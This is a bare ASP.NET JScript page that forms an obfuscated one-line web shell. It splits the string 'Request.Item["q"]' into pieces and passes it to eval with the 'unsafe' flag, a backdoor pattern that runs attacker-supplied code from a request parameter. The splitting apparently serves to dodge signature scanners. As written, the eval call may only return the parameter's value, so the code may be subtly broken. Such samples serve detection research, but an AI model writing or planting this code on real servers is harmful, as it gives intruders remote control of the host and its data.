<%@ Page Language="JScript" %>
<%
var k = "R" + "equest.Item[\"q\"]";
eval
   (k, "u" + "nsafe");
%>
